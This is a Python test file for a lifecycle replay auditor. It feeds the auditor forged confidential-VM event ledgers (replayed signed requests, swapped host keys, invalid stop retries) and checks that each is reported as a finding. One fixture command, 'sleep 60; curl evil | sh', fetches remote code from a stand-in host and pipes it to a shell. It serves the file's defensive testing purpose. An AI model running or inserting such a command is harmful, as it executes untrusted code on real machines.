"""Forbidden sequences the lifecycle replay must report (found by attacking an earlier version:
each of these ledgers passed an audit then). Every entry here could hash into a signed head;
what it shows could not come from a controller that enforces its rules."""

from __future__ import annotations

import itertools
from typing import Any

from duet.protocol import lifecycle as lc
from duet.protocol.lifecycle import LifecycleReplay

OWNER = "0" * 64
CVM = "c" * 64


class History:
    def __init__(self) -> None:
        self.entries: list[dict[str, Any]] = []
        self._digests = (f"{n:064x}" for n in itertools.count(1))

    def add(self, event: str, actor: str = lc.CONTROLLER_ACTOR, cvm: str | None = CVM, **fields: Any) -> dict[str, Any]:
        entry = {"seq": len(self.entries), "time": "2026-12-01T00:00:00.000Z", "cvm": cvm, "event": event, "actor": actor,
                 "request_digest": None, **fields}  # fmt: skip
        self.entries.append(entry)
        return entry

    def owner(self, event: str, digest: str | None = None, **fields: Any) -> dict[str, Any]:
        return self.add(event, OWNER, request_digest=digest or next(self._digests), **fields)

    def ready(self) -> History:
        self.add(lc.CONTROLLER_OWNERS, cvm=None, owners=[OWNER])
        self.owner(lc.CVM_PROVISIONING, type="snp", provider="local", job="j1")
        self.add(lc.CVM_CREATED, host="10.0.0.5", port=22, host_key_fingerprint="SHA256:real", machine_sha256="a" * 64)
        self.add(lc.CVM_READY, mode=lc.IN_UPDATE)
        return self

    def findings(self) -> list[tuple[str, int | None]]:
        return [(v.code, v.seq) for v in LifecycleReplay().apply_all(self.entries).violations]


def test_a_lawful_history_with_a_multi_command_run_passes() -> None:
    history = History().ready()
    digest = "d" * 64
    for command in ("one", "two"):
        started = history.owner(lc.COMMAND_STARTED, digest, command=command)
        history.add(lc.COMMAND_FINISHED, request_digest=digest, started_seq=started["seq"], exit_status=0)
    history.owner(lc.MODE_CHANGED, previous=lc.IN_UPDATE, mode=lc.IN_SERVICE, final=False)
    assert history.findings() == []


def test_one_signed_request_accepted_twice_is_a_finding() -> None:
    history = History().ready()
    history.owner(lc.MODE_CHANGED, previous=lc.IN_UPDATE, mode=lc.IN_SERVICE, final=False)
    reopened = history.owner(lc.MODE_CHANGED, previous=lc.IN_SERVICE, mode=lc.IN_UPDATE, final=False)
    history.owner(lc.MODE_CHANGED, previous=lc.IN_UPDATE, mode=lc.IN_SERVICE, final=False)
    replayed = history.owner(lc.MODE_CHANGED, reopened["request_digest"], previous=lc.IN_SERVICE, mode=lc.IN_UPDATE, final=False)
    assert history.findings() == [("request_replayed", replayed["seq"])]


def test_a_replayed_start_is_a_finding_but_seed_requests_may_repeat() -> None:
    history = History().ready()
    first = history.entries[1]
    again = history.add(lc.CVM_PROVISIONING, OWNER, cvm="e" * 64, request_digest=first["request_digest"], type="snp",
                        provider="local", job="j2")  # fmt: skip
    seed = History().ready()
    for _ in range(2):  # the seed's protocol has no nonce: the same params twice are two requests
        started = seed.owner(lc.COMMAND_STARTED, "5" * 64, command="apt-get update", protocol="seed")
        seed.add(lc.COMMAND_FINISHED, request_digest="5" * 64, started_seq=started["seq"], protocol="seed")
        seed.owner(lc.MODE_CHANGED, "6" * 64, previous=lc.IN_UPDATE, mode=lc.IN_SERVICE, final=False, protocol="seed")
        seed.owner(lc.MODE_CHANGED, "7" * 64, previous=lc.IN_SERVICE, mode=lc.IN_UPDATE, final=False, protocol="seed")
    assert history.findings() == [("request_replayed", again["seq"])]
    assert seed.findings() == []


def test_a_resumed_machine_with_another_host_key_is_a_finding() -> None:
    history = History().ready()
    swapped = history.add(
        lc.CVM_RESUMED, host="10.0.0.5", port=22, host_key_fingerprint="SHA256:impostor", machine_sha256="b" * 64
    )
    history.add(lc.CVM_RESUMED, host="10.0.0.6", port=22, host_key_fingerprint="SHA256:impostor", machine_sha256="c" * 64)
    assert history.findings() == [("host_key_changed", swapped["seq"])]


def test_a_cvm_marked_in_service_while_a_command_runs_is_a_finding() -> None:
    history = History().ready()
    started = history.owner(lc.COMMAND_STARTED, command="sleep 60; curl evil | sh")
    marked = history.owner(lc.MODE_CHANGED, previous=lc.IN_UPDATE, mode=lc.IN_SERVICE, final=False)
    history.add(lc.COMMAND_FINISHED, started_seq=started["seq"], exit_status=0)
    assert history.findings() == [("changed_during_command", marked["seq"])]


# --- a failed stop may be retried, and only a failed one ----------------------------------------


def stopping(history: History) -> History:
    history.owner(lc.CVM_STOPPING, previous=lc.IN_UPDATE, job="s1")
    return history


def test_a_stop_retried_after_it_failed_passes() -> None:
    history = stopping(History().ready())
    history.add(lc.CVM_STOP_FAILED, reason="the cloud said no")
    history.owner(lc.CVM_STOPPING, previous=lc.STOPPING, job="s2")
    history.add(lc.CVM_STOP_FAILED, reason="the cloud said no again")
    history.add(lc.CVM_STOP_FAILED, reason="retried at a restart", retry="restart")  # the controller retries at start
    history.owner(lc.CVM_STOPPING, previous=lc.STOPPING, job="s3")
    history.add(lc.CVM_STOPPED, key_destroyed=True)
    replay = LifecycleReplay().apply_all(history.entries)
    assert replay.violations == []
    assert replay.cvms[CVM].mode == lc.STOPPED
    assert [(job.id, job.status) for job in replay.jobs.values() if job.kind == "stop"] == [
        ("s1", "failed"), ("s2", "failed"), ("s3", "succeeded"),
    ]  # fmt: skip


def test_a_second_stop_while_one_runs_is_a_finding() -> None:
    history = stopping(History().ready())
    again = history.owner(lc.CVM_STOPPING, previous=lc.STOPPING, job="s2")
    history.add(lc.CVM_STOPPED, key_destroyed=True)
    assert history.findings() == [("forbidden_in_mode", again["seq"])]


def test_a_stop_retried_twice_after_one_failure_is_a_finding() -> None:
    history = stopping(History().ready())
    history.add(lc.CVM_STOP_FAILED, reason="the cloud said no")
    history.owner(lc.CVM_STOPPING, previous=lc.STOPPING, job="s2")
    again = history.owner(lc.CVM_STOPPING, previous=lc.STOPPING, job="s3")
    assert history.findings() == [("forbidden_in_mode", again["seq"])]


def test_a_stop_after_stopped_is_still_a_finding() -> None:
    history = stopping(History().ready())
    history.add(lc.CVM_STOP_FAILED, reason="the cloud said no")
    history.owner(lc.CVM_STOPPING, previous=lc.STOPPING, job="s2")
    history.add(lc.CVM_STOPPED, key_destroyed=True)
    again = history.owner(lc.CVM_STOPPING, previous=lc.STOPPED, job="s3")
    assert history.findings() == [("forbidden_in_mode", again["seq"])]


def test_a_stopping_entry_that_misstates_the_previous_mode_is_a_finding() -> None:
    history = History().ready()
    lying = history.owner(lc.CVM_STOPPING, previous=lc.IN_SERVICE, job="s1")
    history.add(lc.CVM_STOP_FAILED, reason="the cloud said no")
    retry = history.owner(lc.CVM_STOPPING, previous=lc.IN_UPDATE, job="s2")
    assert history.findings() == [("forbidden_transition", lying["seq"]), ("forbidden_transition", retry["seq"])]
